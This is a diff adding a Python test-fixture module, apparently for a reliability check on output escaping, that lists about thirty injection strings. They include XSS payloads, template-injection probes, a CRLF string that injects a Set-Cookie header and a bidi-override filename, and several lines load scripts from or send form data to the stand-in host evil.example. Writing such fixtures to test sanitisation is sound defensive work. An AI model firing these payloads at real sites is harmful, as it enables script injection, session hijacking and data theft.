@@ -1,0 +1,38 @@
+"""Which strings try to become script, markup, a template or a header (reliability S06)?"""
+
+from __future__ import annotations
+
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</template><script>alert(1)</script>",
+    "<ScRiPt/src=//evil.example/x.js></sCrIpT>",
+    "<<script>alert(1)//<</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x:alert(1) onerror=eval(src)>",
+    '"><img src=x onerror=alert(1)>',
+    "'><svg/onload=alert(1)>",
+    '" autofocus onfocus=alert(1) x="',
+    "' onmouseover='alert(1)",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=javascript:alert(1)>x",
+    "<math><mtext><style><img onerror=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    '<a href="java\tscript:alert(1)">x</a>',
+    "<a href=&#106;avascript:alert(1)>x</a>",
+    "<a href=data:text/html,<script>1</script>>x",
+    "[x](javascript:alert(1))",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<form action=//evil.example><input name=q>",
+    "<style>*{background:url(//evil.example)}",
+    "<p style=position:fixed onclick=x()>x</p>",
+    "<meta http-equiv=refresh content=0;//evil.x>",
+    "<base href=//evil.example/>",
+    "<!--><script>alert(1)</script>-->",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "{{ 7|add:7 }}{% load static %}{{ shell }}",
+    "%(title)s %s {0} ${7*7} #{7*7}",
+    "x\r\nSet-Cookie: evil=1\r\n\r\n<script>",
+    "\u202etxt.exe\u2066<b>x</b>",
+)
